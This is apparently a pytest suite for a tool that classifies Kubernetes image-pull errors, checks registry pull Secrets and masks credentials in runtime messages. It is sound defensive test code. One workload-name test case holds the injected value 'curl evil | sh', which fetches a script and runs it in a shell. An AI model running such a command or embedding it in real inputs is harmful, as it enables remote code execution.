"""Why a pull fails: the texts of containerd, Docker and CRI-O, and what the Secrets of the pod say."""

import base64
import json
import re
import time
from datetime import UTC, datetime, timedelta

import pytest

from registries.domain.registry import Key, Provider, RegistrySecret, Verification, VerifyStatus
from registries.domain.shown import shown_words
from registries.pull_secrets.explain import (
    Code,
    Fault,
    Near,
    PodSecret,
    SecretState,
    Waiting,
    explain,
    fault_of,
    is_pull_reason,
    nearest_key,
)
from registries.pull_secrets.failing import failing_pod, images_of, read_secret
from registries.pull_secrets.matching import image_name
from tests.house.test_verdicts import PAGES, rows_of

NOW = datetime(2026, 11, 28, tzinfo=UTC)
IMAGE = "reg.io/team/app:1"
PREFIX = f'Failed to pull image "{IMAGE}": rpc error: code = Unknown desc = '
BACK_OFF = f'Back-off pulling image "{IMAGE}": ErrImagePull: '
TOKEN = "failed to authorize: failed to fetch oauth token: unexpected status"
RESOLVE = f'failed to pull and unpack image "{IMAGE}": failed to resolve reference "{IMAGE}": '
REFUSED = "pulling from host reg.io failed with status code [manifests 1]: 401 Unauthorized"

TEXTS = [
    (Fault.CREDENTIAL, REFUSED),
    (
        Fault.CREDENTIAL,
        "unexpected status from HEAD request to https://reg.io/v2/team/app/manifests/1: 401 Unauthorized",
    ),
    (Fault.CREDENTIAL, "no basic auth credentials"),
    (Fault.CREDENTIAL, "Error response from daemon: Get https://reg.io/v2/: no basic auth credentials"),
    (Fault.CREDENTIAL, "reading manifest 1 in reg.io/team/app: unauthorized: authentication required"),
    (Fault.CREDENTIAL, "unauthorized: authentication required"),
    (Fault.CREDENTIAL, f"{TOKEN}: 401"),
    (Fault.CREDENTIAL, f"{TOKEN} from POST request to https://auth.reg.io/token: 401"),
    (Fault.CREDENTIAL, "unauthorized: incorrect username or password"),
    (Fault.CREDENTIAL, "unable to retrieve auth token: invalid username/password: unauthorized: x"),
    (Fault.CREDENTIAL, "failed to fetch anonymous token: unexpected status: 401"),
    (Fault.CREDENTIAL, "failed to fetch anonymous token: unexpected status: 401 Unauthorized"),
    (Fault.DENIED, f"{TOKEN} from GET request to https://auth.reg.io/token: 403 Forbidden"),
    (Fault.DENIED, "denied: denied"),
    (Fault.DENIED, "Requesting bearer token: invalid status code from registry 403 (Forbidden)"),
    (
        Fault.DENIED,
        "pull access denied, repository does not exist or may require authorization: server message: "
        "insufficient_scope: authorization failed",
    ),
    (
        Fault.DENIED,
        "pull access denied for app, repository does not exist or may require 'docker login': denied: x",
    ),
    (Fault.DENIED, "errors: denied: requested access to the resource is denied"),
    (Fault.DENIED, "unauthorized: unauthorized to access repository: team/app, action: pull"),
    (Fault.IMAGE_MISSING, f"{RESOLVE}{IMAGE}: not found"),
    (Fault.IMAGE_MISSING, f"manifest for {IMAGE} not found: manifest unknown: manifest unknown"),
    (Fault.IMAGE_MISSING, "reading manifest 1 in reg.io/team/app: manifest unknown"),
    (Fault.PLATFORM_MISSING, f"{RESOLVE}no match for platform in manifest: not found"),
    (Fault.PLATFORM_MISSING, "no matching manifest for linux/amd64 in the manifest list entries"),
    (Fault.PLATFORM_MISSING, "no image found in image index for architecture riscv64, variant, OS linux"),
    (Fault.CERTIFICATE, f"{RESOLVE}failed to do request: x509: certificate signed by unknown authority"),
    (Fault.CERTIFICATE, "tls: failed to verify certificate: x509: certificate has expired"),
    (Fault.PLAIN_HTTP, "failed to do request: http: server gave HTTP response to HTTPS client"),
    (Fault.NETWORK, "failed to do request: dial tcp 10.0.0.1:443: connect: connection refused"),
    (Fault.NETWORK, "dial tcp: lookup reg.io on 10.96.0.10:53: no such host"),
    (Fault.NETWORK, "pinging container registry reg.io: Get https://reg.io/v2/: EOF"),
    (Fault.NETWORK, "net/http: TLS handshake timeout"),
    (Fault.NETWORK, "context deadline exceeded"),
    (Fault.RATE_LIMIT, "unexpected status code https://reg.io/v2/: 429 Too Many Requests"),
    (Fault.RATE_LIMIT, "toomanyrequests: You have reached your pull rate limit."),
    (Fault.RATE_LIMIT, "reading manifest 1 in reg.io/team/app: toomanyrequests"),
    (Fault.NOT_A_REGISTRY, "unexpected media type text/html for sha256:0: not found"),
    (
        Fault.NOT_A_REGISTRY,
        "error parsing HTTP 200 response body: invalid character '<' looking for beginning of value",
    ),
    (Fault.NODE_LIMIT, "pull QPS exceeded"),
    (Fault.SERVER, "unexpected status from HEAD request to https://reg.io/v2/: 503 Service Unavailable"),
    (Fault.SERVER, "received unexpected HTTP status: 500 Internal Server Error"),
    (Fault.BROKEN_SECRET, "unable to parse auth field, must be formatted as base64(username:password)"),
    (Fault.BROKEN_SECRET, "illegal base64 data at input byte 4"),
    (Fault.CREDENTIAL, "reading manifest 1 in reg.io/team/app: unauthorized"),
    (Fault.CREDENTIAL, "pulling from host reg.io failed with status code [manifests 1]: 401 "),
    (Fault.CREDENTIAL, "error parsing HTTP 401 response body: invalid character '<'"),
    (Fault.DENIED, "denied"),
    (Fault.DENIED, "error parsing HTTP 403 response body: unexpected end of JSON input"),
    (Fault.IMAGE_MISSING, "unknown: artifact team/app:1 not found"),
    (Fault.SERVER, "pinging container registry reg.io: invalid status code from registry 503 (x)"),
    (Fault.NETWORK, "EOF"),
    (Fault.NETWORK, "remote error: tls: handshake failure"),
    (Fault.UNKNOWN, ""),
    (Fault.UNKNOWN, "open /var/lib/images: permission denied"),
    (Fault.UNKNOWN, "something new"),
]


def registry(
    name: str = "mine",
    domain: str = "reg.io",
    status: VerifyStatus = VerifyStatus.SUCCESS,
    reason: str = "ok",
    days: int = 0,
) -> RegistrySecret:
    verification = Verification(status, reason, "", NOW - timedelta(days=days))
    key = Key("team-a", name)
    return RegistrySecret(key, "u", "1", NOW, domain, "u", Provider.OTHER, verification=verification)


def secret(*keys: str, name: str = "mine", state: SecretState = SecretState.READABLE) -> PodSecret:
    return PodSecret(name, state, keys)


def waiting(message: str = REFUSED, image: str = IMAGE, reason: str = "ErrImagePull") -> Waiting:
    return Waiting("c", image, reason, message)


@pytest.mark.parametrize(("fault", "text"), TEXTS)
@pytest.mark.parametrize("prefix", ["", PREFIX, BACK_OFF])
def test_the_fault_in_a_text(fault: Fault, text: str, prefix: str) -> None:
    assert fault_of(IMAGE, "ErrImagePull", prefix + text) is fault


@pytest.mark.parametrize("prefix", ["", f'Failed to pull image "{IMAGE}": ', BACK_OFF])
@pytest.mark.parametrize(
    "text", ["unexpected end of JSON input", "json: cannot unmarshal array into Go value"]
)
def test_json_that_cannot_be_read_is_a_secret_unless_a_runtime_says_so(prefix: str, text: str) -> None:
    assert fault_of(IMAGE, "ErrImagePull", prefix + text) is Fault.BROKEN_SECRET
    assert fault_of(IMAGE, "ErrImagePull", f"{prefix}{PREFIX}{text}") is Fault.NOT_A_REGISTRY


FAULTS = {
    Fault.IMAGE_MISSING: {"ok"},
    Fault.NETWORK: {
        *("dns_failed", "connection_refused", "network_unreachable", "timeout", "connection_reset"),
        *("proxy_error", "tls_handshake_failed", "token_service_unreachable"),
    },
    Fault.CERTIFICATE: {"tls_untrusted", "tls_expired", "tls_hostname_mismatch"},
    Fault.PLAIN_HTTP: {"plain_http_server"},
    Fault.NOT_A_REGISTRY: {"not_a_registry", "token_invalid_response"},
    Fault.RATE_LIMIT: {"rate_limited"},
    Fault.SERVER: {"server_error", "token_service_error"},
    Fault.CREDENTIAL: {
        *("bad_challenge", "unsupported_auth", "token_rejected", "bad_credentials", "credentials_expired"),
        "pat_required",
    },
    Fault.DENIED: {"access_denied"},
}
"""The fault in the texts of a row of docs/verdicts.md."""
NOT_TEXTS = ("Retry-After", "REALM")
"""What is quoted there beside the texts of runtimes."""


@pytest.mark.parametrize("prefix", ["", PREFIX])
def test_every_text_in_the_table_of_verdicts_is_explained(prefix: str) -> None:
    rows = {row[0].strip("`"): re.findall("`([^`]+)`", " ".join(row[2:5])) for row in rows_of(PAGES[0])}
    found = {
        (code, text): fault_of(IMAGE, "ErrImagePull", prefix + text)
        for fault, codes in FAULTS.items()
        for code in codes
        for text in rows[code]
        if text not in NOT_TEXTS
    }
    expected = {(code, text): next(it for it in FAULTS if code in FAULTS[it]) for code, text in found}
    # The registry and its token service do not agree: containerd says the words of a missing right.
    odd = {it: Fault.DENIED for it in found if it[0] == "token_rejected" and "pull access denied" in it[1]}
    assert len(found) > 60
    assert found == expected | odd


NAMES = (
    *(
        "toomanyrequests/denied:x509",
        "unauthorized/app:not-found",
        "429/dial-tcp:eof",
        "manifest/unknown:401",
    ),
    *("a/denied", "denied/unauthorized:unauthorized", "insufficient_scope/x509:denied"),
)
REPEATS = (
    (Fault.UNKNOWN, 'Back-off pulling image "{image}"'),
    (Fault.NETWORK, "{image}: connection refused"),
    (Fault.NETWORK, 'Head "https://{host}/v2/{path}/manifests/{tag}": EOF'),
    (Fault.IMAGE_MISSING, "reading manifest {tag} in {name}: manifest unknown"),
    (Fault.IMAGE_MISSING, "repository {name} not found: name unknown: repository name not known"),
    (Fault.IMAGE_MISSING, "unknown: artifact {path}:{tag} not found"),
    (Fault.IMAGE_MISSING, "{name}:{tag}: not found"),
)


@pytest.mark.parametrize("host", ["reg.io", "docker.io", "localhost:5000", ""])
@pytest.mark.parametrize("name", NAMES)
def test_a_word_in_the_name_of_an_image_is_no_fault(name: str, host: str) -> None:
    image = f"{host}/{name}" if host else name
    path, _, tag = name.partition(":")
    parts = {"image": image, "path": path, "tag": tag or "latest", "name": f"{host or 'docker.io'}/{path}"}
    for fault, text in REPEATS:
        said = text.format(**parts, host=host or "registry-1.docker.io")
        assert fault_of(image, "ErrImagePull", PREFIX + said) is fault, said


@pytest.mark.parametrize("image", ["denied", "unauthorized", "x509"])
def test_an_image_may_have_the_name_of_a_fault(image: str) -> None:
    assert fault_of(image, "ErrImagePull", f'Back-off pulling image "{image}"') is Fault.UNKNOWN
    assert fault_of(image, "ErrImagePull", f'Failed to pull image "{image}": denied: denied') is Fault.DENIED


def test_the_reasons_of_kubelets() -> None:
    for reason in (
        "ErrImagePull",
        "ImagePullBackOff",
        "InvalidImageName",
        "ErrImageNeverPull",
        "RegistryUnavailable",
    ):
        assert is_pull_reason(reason)
    for reason in (
        "CrashLoopBackOff",
        "ContainerCreating",
        "PodInitializing",
        "CreateContainerConfigError",
        "",
    ):
        assert not is_pull_reason(reason)
    sentence = "unable to parse auth field, must be formatted as base64(username:password)"
    assert is_pull_reason(sentence)
    assert fault_of(IMAGE, sentence, "") is Fault.BROKEN_SECRET
    assert fault_of(IMAGE, "ErrImageNeverPull", "x") is Fault.NEVER_PULLED
    assert fault_of(IMAGE, "SignatureValidationFailed", "x") is Fault.SIGNATURE
    waits = f'Back-off pulling image "{IMAGE}": '
    refused = (
        f"SignatureValidationFailed: image pull failed for {IMAGE} because the signature validation failed"
    )
    away = f"RegistryUnavailable: image pull failed for {IMAGE} because the registry is unavailable"
    assert fault_of(IMAGE, "ImagePullBackOff", f"{waits}{refused}: not found") is Fault.SIGNATURE
    assert fault_of(IMAGE, "ImagePullBackOff", f"{waits}{away}") is Fault.NETWORK
    assert fault_of(IMAGE, "RegistryUnavailable", away.partition(": ")[2]) is Fault.NETWORK
    assert fault_of(IMAGE, "ImagePullBackOff", f"{waits}{away}: 401 Unauthorized") is Fault.CREDENTIAL


MISSING, TYPE, UNREAD = (
    secret(state=it) for it in (SecretState.MISSING, SecretState.WRONG_TYPE, SecretState.UNREAD)
)
BROKEN = secret(state=SecretState.BROKEN)
DENIED = "pull access denied, repository does not exist or may require authorization"
GOOD, BAD = registry(), registry(status=VerifyStatus.FAILED, reason="bad_credentials")
OLD, UNTESTED = registry(days=9), registry(status=VerifyStatus.UNTESTED, reason="")
OPEN = registry(reason="ok_unverified")


@pytest.mark.parametrize(
    ("code", "message", "secrets", "registries"),
    [
        (Code.NO_SECRET, REFUSED, [], []),
        (Code.NO_SECRET, DENIED, [], [GOOD]),
        (Code.NO_SECRET, "", [], [GOOD]),
        (Code.UNKNOWN, "", [], []),
        (Code.SECRET_MISSING, REFUSED, [MISSING], [GOOD]),
        (Code.SECRET_MISSING, "", [MISSING], []),
        (Code.SECRET_TYPE, REFUSED, [TYPE], []),
        (Code.SECRET_UNREAD, REFUSED, [UNREAD], []),
        (Code.SECRET_MISSING, REFUSED, [secret("other.io"), UNREAD, MISSING], []),
        (Code.SECRET_BROKEN, REFUSED, [secret("reg.io"), BROKEN], [GOOD]),
        (Code.SECRET_BROKEN, f"{IMAGE}: not found", [BROKEN], []),
        (Code.SECRET_BROKEN, "illegal base64 data at input byte 4", [UNREAD], []),
        (Code.UNKNOWN, "illegal base64 data at input byte 4", [secret("reg.io")], []),
        (Code.NO_MATCH, REFUSED, [secret("other.io")], []),
        (Code.NO_MATCH, DENIED, [secret("reg.io:443")], []),
        (Code.NO_MATCH, "", [secret("https://reg.io/v2")], []),
        (Code.CREDENTIAL_BAD, REFUSED, [secret("reg.io")], [BAD]),
        (Code.CREDENTIAL_BAD, DENIED, [secret("reg.io")], [BAD]),
        (Code.CREDENTIAL_BAD, "", [secret("reg.io")], [BAD]),
        (Code.CREDENTIAL_GOOD, REFUSED, [secret("reg.io")], [GOOD]),
        (Code.CREDENTIAL_OLD, REFUSED, [secret("reg.io")], [OLD]),
        (Code.CREDENTIAL_OLD, REFUSED, [secret("reg.io")], [UNTESTED]),
        (Code.CREDENTIAL_OLD, REFUSED, [secret("reg.io")], [OPEN]),
        (Code.CREDENTIAL_FOREIGN, REFUSED, [secret("reg.io", name="theirs")], [GOOD]),
        (Code.CREDENTIAL_FOREIGN, REFUSED, [secret("reg.io")], [registry(domain="other.io")]),
        (Code.DENIED, DENIED, [secret("reg.io")], [GOOD]),
        (Code.DENIED, DENIED, [secret("reg.io", name="theirs")], []),
        (Code.UNKNOWN, "", [secret("reg.io")], [GOOD]),
        (Code.MIRROR, REFUSED.replace("reg.io", "127.0.0.1:5011"), [secret("reg.io")], [GOOD]),
        (
            Code.MIRROR,
            "unexpected status from HEAD request to https://m.io/v2/a?ns=reg.io: 401 Unauthorized",
            [],
            [],
        ),
        (Code.IMAGE_MISSING, f"{IMAGE}: not found", [], []),
        (Code.CERTIFICATE, "x509: certificate signed by unknown authority", [secret("reg.io")], [BAD]),
    ],
)
def test_an_explanation(
    code: Code, message: str, secrets: list[PodSecret], registries: list[RegistrySecret]
) -> None:
    found = explain(waiting(message), secrets, registries, NOW)

    assert (found.code, found.host) == (code, "reg.io")
    assert found.certain or fault_of(IMAGE, "ErrImagePull", message) is Fault.UNKNOWN


@pytest.mark.parametrize("fault", [it for it in Fault if it not in (Fault.CREDENTIAL, Fault.BROKEN_SECRET)])
def test_each_fault_that_is_not_about_a_secret_is_an_explanation(fault: Fault) -> None:
    assert Code(fault.value)


@pytest.mark.parametrize(
    "image", ["Reg.io/A", "reg.io/a b", "reg.io/a:", "", "https://reg.io/a", "u:p@reg.io/a"]
)
def test_an_invalid_image_name(image: str) -> None:
    for message, reason in (("couldn't parse image name", "InvalidImageName"), (REFUSED, "ErrImagePull")):
        assert explain(waiting(message, image, reason), [], [], NOW).code is Code.INVALID_NAME


def test_docker_hub_is_no_mirror_of_itself() -> None:
    text = "unexpected status from HEAD request to https://registry-1.docker.io/v2/x/manifests/1: 401 Unauthorized"

    found = explain(waiting(text, "nginx"), [secret("https://index.docker.io/v1/")], [], NOW)

    assert (found.code, found.host) == (Code.CREDENTIAL_FOREIGN, "docker.io")


def test_a_registry_for_the_host_is_offered_and_the_pull_secret_is_judged() -> None:
    mine, other = registry("other", status=VerifyStatus.FAILED), registry("mine")

    assert explain(waiting(), [], [registry("x", "other.io"), mine], NOW).registry == mine.key
    assert explain(waiting(), [secret("reg.io")], [mine, other], NOW).registry == other.key


@pytest.mark.parametrize(
    ("key", "near"),
    [
        ("reg.io:443", Near.PORT),
        ("reg.io:5000", Near.PORT),
        ("https://reg.io:443/v1/", Near.PORT),
        ("REG.IO", Near.CASE),
        ("https://Reg.io", Near.CASE),
        (" reg.io", Near.SPACE),
        ("reg.io\n", Near.SPACE),
        ("https://https://reg.io", Near.SCHEME),
        ("https://reg.io/v2", Near.VERSION),
        ("reg.io/v1", Near.VERSION),
        ("reg.io/team/*", Near.PATH),
        ("reg.io/team/app:1", Near.PATH),
        ("reg.io/other", Near.PATH),
        ("*.reg.io", Near.PATTERN),
        ("other.io", None),
        ("", None),
        ("*", None),
        ("x" * 10_000, None),
        ("reg.io/" + "x" * 10_000, None),
    ],
)
def test_the_nearest_key(key: str, near: Near | None) -> None:
    assert nearest_key([key], IMAGE) == ((key, near) if near else None)
    assert nearest_key(["other.io", key], IMAGE) == ((key, near) if near else None)


@pytest.mark.parametrize("key", ["registry-1.docker.io", "https://index.docker.io/v1", "hub.docker.com"])
def test_a_name_of_docker_hub_that_kubelets_do_not_use(key: str) -> None:
    assert nearest_key([key], "nginx") == (key, Near.HUB)


def keys_of(encoded: str) -> tuple[str, ...] | None:
    """The keys of a Secret with this content in base64; None if a kubelet cannot read it."""
    secret = {"type": "kubernetes.io/dockerconfigjson", "data": {".dockerconfigjson": encoded}}
    read = read_secret("regcred", secret)
    return read.keys if read.state is SecretState.READABLE else None


@pytest.mark.parametrize(
    ("config", "keys"),
    [
        ('{"auths":{"reg.io":{"auth":"dTpw"},"b":{}}}', ("reg.io", "b")),
        ('{"auths":{"reg.io":{"auth":"dTpwcA"}}}', ("reg.io",)),
        (r'{"auths":{"reg.io":{"auth":"dT\npw\r\ncA==\n"}}}', ("reg.io",)),
        (r'{"auths":{"reg.io":{"auth":"dTpw\n"}}}', ("reg.io",)),
        ('{"auths":{"reg.io":{"auth":""}}}', ("reg.io",)),
        ('{"auths":{"reg.io":{"auth":"dTpwcA="}}}', None),
        ('{"auths":{"reg.io":{"auth":" dTpw"}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw "}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpwc"}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw===="}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw=cA="}}}', None),
        ('{"auths":{}}', ()),
        ("{}", ()),
        ('{"auths":null}', ()),
        ('{"auths":[]}', None),
        ('{"auths":{"reg.io":{"username":5}}}', None),
        ('{"auths":{"reg.io":{"auth":"dXA="}}}', None),
        ('{"auths":{"reg.io":{"auth":"%%%"}}}', None),
        ('{"auths":{"reg.io":"x"}}', None),
        ('{"auths":', None),
        ("[" * 100_000, None),
    ],
)
def test_the_keys_of_a_secret_as_kubelets_read_it(config: str, keys: tuple[str, ...] | None) -> None:
    assert keys_of(base64.b64encode(config.encode()).decode()) == keys


def test_every_kind_of_container_is_looked_at() -> None:
    def status(name: str, reason: str) -> dict[str, object]:
        return {"name": name, "image": "", "state": {"waiting": {"reason": reason, "message": "m"}}}

    names = ("init", "app", "debug")
    pod = {
        "metadata": {"name": "p", "namespace": "n"},
        "spec": {
            f: [{"name": n, "image": f"reg.io/{n}"}]
            for f, n in zip(("initContainers", "containers", "ephemeralContainers"), names, strict=True)
        },
        "status": {
            f: [status(n, "ErrImagePull"), status("x", "CrashLoopBackOff")]
            for f, n in zip(
                ("initContainerStatuses", "containerStatuses", "ephemeralContainerStatuses"),
                names,
                strict=True,
            )
        },
    }

    found = failing_pod(pod)

    assert found
    assert [(it.container, it.image) for it in found.waiting] == [(n, f"reg.io/{n}") for n in names]
    assert (
        failing_pod({"metadata": {}, "status": {"containerStatuses": [{"state": {"running": {}}}]}}) is None
    )
    assert failing_pod({}) is None


def test_little_is_kept_of_a_pod_whose_texts_are_long() -> None:
    long = "x" * 1_000_000
    waiting = {"reason": "ErrImagePull", "message": long}
    spec = {"containers": [{"name": "c", "image": long}] * 60, "imagePullSecrets": [{"name": long}] * 60}
    statuses = [{"name": "c", "image": long, "state": {"waiting": waiting}}] * 60

    pod = failing_pod({"metadata": {}, "spec": spec, "status": {"containerStatuses": statuses}})

    assert pod
    texts = [*pod.secrets, *(text for it in pod.waiting for text in (it.container, it.image, it.message))]
    assert len(texts) == 50 * 4
    assert sum(map(len, texts)) < 50 * 6_000
    assert not any(map(image_name, {it.image for it in pod.waiting}))
    assert max(map(len, images_of({"spec": spec}))) <= 1_000


@pytest.mark.parametrize(
    ("kind", "name", "labels", "owner"),
    [
        ("ReplicaSet", "web-7d9f", {"pod-template-hash": "7d9f"}, ("Deployment", "web")),
        ("ReplicaSet", "web-7d9f", {"pod-template-hash": "other"}, ("ReplicaSet", "web-7d9f")),
        ("ReplicaSet", "web-", None, ("", "")),
        ("StatefulSet", "db", {}, ("StatefulSet", "db")),
        ("Deployment", "../../team-b/deployments/db", {}, ("", "")),
        ("DaemonSet", "a\x03\ncurl evil | sh", {}, ("", "")),
        ("DaemonSet", "\u202eabc", {}, ("", "")),
        ("DaemonSet", "a" * 254, {}, ("", "")),
    ],
)
def test_the_workload_of_a_pod(
    kind: str, name: str, labels: dict[str, str] | None, owner: tuple[str, str]
) -> None:
    waits = {"name": "c", "state": {"waiting": {"reason": "ErrImagePull"}}}
    owners = [{"kind": "Node", "name": "n"}, {"kind": kind, "name": name, "controller": True}]
    metadata = {"name": "p", "namespace": "n", "labels": labels, "ownerReferences": owners}

    found = failing_pod({"metadata": metadata, "status": {"containerStatuses": [waits]}})

    assert found
    assert found.owner == owner
    mirror = {**metadata, "annotations": {"kubernetes.io/config.mirror": "hash"}}
    static = failing_pod({"metadata": mirror, "status": {"containerStatuses": [waits]}})
    assert static
    assert static.owner == ("Node", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("401 Unauthorized", "401 Unauthorized"),
        ("no basic auth credentials", "no basic auth credentials"),
        (f"{TOKEN}: 401", f"{TOKEN}: 401"),
        ("a\x00b\u202ec\r\nd\x1b[31m", "a b c d [31m"),
        ("GET https://u:hunter22@reg.io/v2/", "GET https://…reg.io/v2/"),
        ("https://s3/x?X-Amz-Signature=abc: 403", "https://s3/x… 403"),
        ("GET https://u:p@ss@reg.io/v2/: EOF", "GET https://…reg.io/v2/: EOF"),
        (
            "pull reg.io/app@sha256:0a from https://reg.io/v2/app@sha256",
            "pull reg.io/app@sha256:0a from https://reg.io/v2/app@sha256",
        ),
        ("Bearer abcdefgh", "…"),
        ("Authorization: Basic cm9ib3Q6czNjcmV0LXB3", "Authorization: …"),
        ("basic c2VjcmV0LWFiYw: refused", "…: refused"),
        ('{"auth":"cm9ib3Q6czNjcmV0"}', '{"…'),
        ("access_token=abcdefgh, client_secret = hunter22!", "… …"),
        ('"identitytoken": "abcdefgh" end', '"… end'),
        ("failed to fetch anonymous token: EOF", "failed to fetch anonymous token: EOF"),
        ("failed to fetch oauth token: 401", "failed to fetch oauth token: 401"),
        ("basic authentication failed", "basic authentication failed"),
        ("password=hunter22!", "…"),
        ("eyJhbGciOiJIUzI1NiJ9", "…"),
    ],
)
def test_the_words_of_a_runtime_are_cleaned(text: str, shown: str) -> None:
    assert shown_words(text, 300) == shown


@pytest.mark.parametrize(
    "text",
    [
        "a" * 10**6,
        "://" * 10**5,
        "?" * 10**5,
        "unexpected status" * 10**5,
        "\x00" * 10**5,
        "status " * 10**5,
        "rpc error: " * 10**5,
        "token-" * 10**5,
        "basic " * 10**5,
        "//" + "@" * 10**5,
        "//" * 10**5,
        "auth = " * 10**5,
    ],
)
def test_a_long_message_costs_little(text: str) -> None:
    begun = time.process_time()

    shown_words(text, 600)
    fault_of(IMAGE, "ErrImagePull", text)
    nearest_key([text], IMAGE)

    assert time.process_time() - begun < 0.1


REPEATED = (
    "status ",
    "status:",
    "status: 4",
    "rpc error: ",
    "artifact ",
    "denied ",
    "EOF ",
    "rpc error: status ",
)


@pytest.mark.parametrize("part", REPEATED)
def test_no_text_of_a_registry_is_slower_than_others(part: str) -> None:
    """A page explains thousands of messages, and a registry chooses parts of them."""

    def cost(text: str) -> float:
        begun = time.process_time()
        fault_of(IMAGE, "ErrImagePull", text)
        return time.process_time() - begun

    chosen, plain = ((part * 4096)[:4096], "a" * 4096)
    pairs = [(cost(chosen), cost(plain)) for _ in range(5)]
    assert min(it for it, _ in pairs) < 4 * min(it for _, it in pairs)


def test_the_last_status_of_a_line_counts() -> None:
    for text, fault in {
        "status of status: 401": Fault.CREDENTIAL,
        "status\nstatus x: 403": Fault.DENIED,
        "status\n: 401": Fault.UNKNOWN,
        f"status {'x' * 600} status: 503": Fault.SERVER,
        f"status {'x' * 600}: 503": Fault.UNKNOWN,
        "a: rpc error: b: rpc error: cannot unmarshal x": Fault.NOT_A_REGISTRY,
        "cannot unmarshal x: rpc error: ": Fault.BROKEN_SECRET,
    }.items():
        assert fault_of(IMAGE, "ErrImagePull", text) is fault, text


def test_a_config_is_data_of_anybody() -> None:
    for config in ([], 5, "x", None, {"auths": {"a": None}}, {"auths": {"a": []}}):
        keys_of(base64.b64encode(json.dumps(config).encode()).decode())
    assert keys_of("A" * 2_000_000) is None
